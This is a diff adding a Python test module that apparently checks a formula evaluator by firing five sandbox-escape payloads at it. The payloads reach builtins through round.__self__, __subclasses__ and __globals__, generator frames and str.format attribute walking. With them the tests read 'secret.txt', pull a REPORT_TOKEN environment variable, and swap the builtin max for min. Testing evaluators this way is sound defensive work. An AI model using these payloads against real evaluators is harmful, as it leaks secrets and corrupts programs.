@@ -1,0 +1,61 @@
+"""Attacks on working out a formula that a user writes."""
+
+import builtins
+
+from prover import Target
+
+from .stage import Stage
+
+
+def attack_function_module(target: Target, stage: Stage) -> bool:
+    """Ask a function that is allowed for the module it comes from."""
+    found = target.work_out("round.__self__.open('secret.txt').read()", stage.figures)
+    print(found)
+    return stage.secret in found
+
+
+def attack_subclasses(target: Target, stage: Stage) -> bool:
+    """Walk from an empty tuple to a class of the standard library, and to its globals."""
+    formula = (
+        "[kind for kind in ().__class__.__base__.__subclasses__()"
+        " if kind.__name__ == 'IncrementalEncoder'][0]"
+        ".__init__.__globals__['__builtins__']['op' + 'en']('secret.txt').read()"
+    )
+    found = target.work_out(formula, stage.figures)
+    print(found)
+    return stage.secret in found
+
+
+def attack_frames(target: Target, stage: Stage) -> bool:
+    """Let a generator look at its own frame, and climb to the caller's: no `__` in it."""
+    formula = (
+        "(lambda box: box.append("
+        "(box[0].gi_frame.f_back.f_back.f_back.f_builtins for each in [0])"
+        ") or [*box[0]])([])[0]['op' + 'en']('secret.txt').read()"
+    )
+    found = target.work_out(formula, stage.figures)
+    print(found)
+    return stage.secret in found
+
+
+def attack_format(target: Target, stage: Stage) -> bool:
+    """Have `str.format` walk the attributes; their names are no code, so no check sees them."""
+    formula = (
+        "'{{0.{0}self{0}.{0}loader{0}.find_spec.{0}globals{0}[sys].modules[os]"
+        ".environ[REPORT_TOKEN]}}'.format('_' * 2).format(round)"
+    )
+    found = target.work_out(formula, stage.figures)
+    print(found)
+    return stage.secret in found
+
+
+def attack_swap_builtin(target: Target, stage: Stage) -> bool:
+    """Put `min` in the place of `max`, for the whole program, without a single quote."""
+    kept = max
+    formula = "round.__self__.setattr(round.__self__, max.__name__, min)"
+    try:
+        target.work_out(formula, stage.figures)
+        print("max(1, 2) is now", max(1, 2))
+        return max(1, 2) == 1
+    finally:
+        builtins.max = kept
